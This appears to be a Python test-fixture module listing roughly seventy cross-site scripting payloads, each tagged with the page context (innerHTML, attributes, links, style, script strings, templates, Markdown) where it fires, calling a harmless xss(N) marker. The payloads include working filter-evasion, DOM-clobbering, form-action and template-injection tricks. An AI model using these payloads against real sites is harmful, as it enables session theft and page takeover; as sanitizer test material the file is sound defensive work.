r"""Texts that run as code, or become markup, where a page takes them for anything but text.

Each says in which kind of place it is dangerous. What runs calls ``xss(NUMBER)``; what only becomes
markup carries ``data-xss="NUMBER"``. All of our own writing. No payload needs another host: the
address that some of them name does not exist, and any call of it is found.
"""

import re
from enum import StrEnum
from pathlib import Path
from typing import NamedTuple

NOWHERE = "xss.invalid"


class Place(StrEnum):
    """Where a careless page puts a text."""

    HTML = "html"
    """``innerHTML``, as it is."""
    DECODED = "decoded"
    """``innerHTML``, after character references, or percent signs, were resolved."""
    FOLDED = "folded"
    """``innerHTML``, after compatibility characters were made plain (NFKC)."""
    STRIPPED = "stripped"
    """``innerHTML``, after the word script and null characters were cut out once."""
    QUOTED = "quoted"
    """An attribute in double quotes."""
    SINGLE_QUOTED = "single quoted"
    """An attribute in single quotes."""
    BARE = "bare"
    """An attribute without quotes."""
    LINK = "link"
    """The address of a link that is then followed."""
    FRAME = "frame"
    """The address of a frame."""
    STYLE = "style"
    """A rule of a style sheet."""
    SCRIPT = "script"
    """A string in double quotes in a script."""
    ESCAPED = "escaped"
    """The same, after its double quotes alone were escaped."""
    JSON = "json"
    """A JSON document in a script element."""
    TEMPLATE = "template"
    """A template whose ``{{…}}`` and ``${…}`` are evaluated."""
    MARKDOWN = "markdown"
    """A text whose Markdown pictures, links and bare addresses become such by string."""


class Payload(NamedTuple):
    """A text, and where it is dangerous."""

    number: int
    place: Place
    text: str


_WRITTEN: list[tuple[Place, str]] = [
    (Place.HTML, "<img src=x onerror=xss(N)>"),
    (Place.HTML, "<IMG SRC=x OnErRoR=xss(N)>"),
    (Place.HTML, "<img/src='x'/onerror=xss(N)>"),
    (Place.HTML, "<img\tsrc=x\nonerror\r=\fxss(N)>"),
    (Place.HTML, "<img src=x onerror=&#120;ss(N)>"),
    (Place.HTML, "<img src=x onerror=window['\\x78ss'](N)>"),
    (Place.HTML, "<img src=x onerror=xss`N`>"),
    (Place.HTML, '"><img src=x onerror=xss(N)>'),
    (Place.HTML, "'--></style></script></title></textarea><img src=x onerror=xss(N)>"),
    (Place.HTML, "<svg onload=xss(N)>"),
    (Place.HTML, "<svg><image href=x onerror=xss(N) /></svg>"),
    (Place.HTML, "<svg><animate onbegin=xss(N) attributeName=x dur=1s>"),
    (Place.HTML, "<svg><style><img src=x onerror=xss(N)></style></svg>"),
    (Place.HTML, "<math><mtext><mglyph><style><img src=x onerror=xss(N)></style></mglyph></math>"),
    (Place.HTML, "<noscript><p title='</noscript><img src=x onerror=xss(N)>'>"),
    (Place.HTML, "<video><source onerror=xss(N)></video>"),
    (Place.HTML, "<audio src=x onerror=xss(N)></audio>"),
    (Place.HTML, "<details open ontoggle=xss(N)>open</details>"),
    (Place.HTML, "<input autofocus onfocus=xss(N)>"),
    (Place.HTML, "<style onload=xss(N)></style>"),
    (Place.HTML, "<p style='animation:a 1ms' onanimationstart=xss(N)>a</p><style>@keyframes a{}"),
    (Place.HTML, "<iframe srcdoc='<script>parent.xss(N)</script>'></iframe>"),
    (Place.HTML, "<iframe src=javascript:parent.xss(N)></iframe>"),
    (Place.HTML, "<object data=javascript:xss(N) data-xss=N></object>"),
    (Place.HTML, "<embed src=javascript:xss(N) data-xss=N>"),
    (Place.HTML, "<form id=document data-xss=N><input name=cookie></form>"),
    (Place.HTML, "<a id=marquee data-xss=N></a><a id=marquee name=key href=https:x></a>"),
    (Place.HTML, f"<base href=//{NOWHERE}/ data-xss=N>"),
    (Place.HTML, f"<meta http-equiv=refresh content='9999;url=//{NOWHERE}/' data-xss=N>"),
    (Place.HTML, f"<link rel=stylesheet href=//{NOWHERE}/N.css data-xss=N>"),
    (Place.HTML, f"<form action=//{NOWHERE}/ data-xss=N><button>Sign in again</button></form>"),
    (Place.HTML, "<button popovertarget=x data-xss=N style=position:fixed;inset:0>"),
    (Place.HTML, "<template data-xss=N><img src=x onerror=xss(N)></template>"),
    (Place.HTML, "<xss-N data-xss=N>unknown elements are elements too"),
    (Place.HTML, "Brilliant! <b data-xss=N>10/10</b>"),
    (Place.DECODED, "&lt;img src=x onerror=xss(N)&gt;"),
    (Place.DECODED, "&#x3c;img src=x onerror=xss(N)&#x3e;"),
    (Place.DECODED, "&amp;lt;img src=x onerror=xss(N)&amp;gt;"),
    (Place.DECODED, "%3Cimg%20src=x%20onerror=xss(N)%3E"),
    (Place.DECODED, "\\u003cimg src=x onerror=xss(N)\\u003e"),
    (Place.FOLDED, "\uff1cimg src=x onerror=xss(N)\uff1e"),
    (Place.FOLDED, "\ufe64img src=x onerror=xss(N)\ufe65"),
    (Place.STRIPPED, "<scscriptript>a</scscriptript><img src=x onerror=xss(N)>"),
    (Place.STRIPPED, "<i\x00mg src=x one\x00rror=xss(N)>"),
    (Place.QUOTED, '" autofocus onfocus="xss(N)'),
    (Place.QUOTED, '"><svg onload=xss(N)><a title="'),
    (Place.SINGLE_QUOTED, "' autofocus onfocus='xss(N)"),
    (Place.BARE, "x autofocus onfocus=xss(N)"),
    (Place.LINK, "javascript:xss(N)"),
    (Place.LINK, "JaVaScRiPt:xss(N)"),
    (Place.LINK, " \x01javascript:xss(N)"),
    (Place.LINK, "java\tscript:xss(N)"),
    (Place.LINK, "javascript://marquee.example/%0Axss(N)"),
    (Place.FRAME, "javascript:parent.xss(N)"),
    (Place.FRAME, "data:text/html,<script>xss(N)</script>"),
    (Place.STYLE, f"red}}*{{background:url(//{NOWHERE}/N.png)}}"),
    (Place.STYLE, f"</style><img src=//{NOWHERE}/N.png onerror=xss(N)>"),
    (Place.SCRIPT, '";xss(N);"'),
    (Place.ESCAPED, '\\";xss(N)//'),
    (Place.SCRIPT, "</script><script>xss(N)</script>"),
    (Place.JSON, '"}</script><img src=x onerror=xss(N)>'),
    (Place.TEMPLATE, "{{constructor.constructor('xss(N)')()}}"),
    (Place.TEMPLATE, "${xss(N)}"),
    (Place.TEMPLATE, "{{xss(N)}}"),
    (Place.MARKDOWN, "[the review](javascript:xss(N))"),
    (Place.MARKDOWN, '![still](x"onerror="xss(N))'),
    (Place.MARKDOWN, 'https://a.example/"onfocus="xss(N)"autofocus="'),
]  # fmt: skip

PAYLOADS = tuple(
    Payload(number, place, re.sub(r"(?<![A-Z])N(?![A-Z])", str(number), text))
    for number, (place, text) in enumerate(_WRITTEN, start=1)
)

CARELESS = (Path(__file__).parent / "careless.html").read_text()
"""A page that makes every mistake: ``SINKS[place](text)``."""
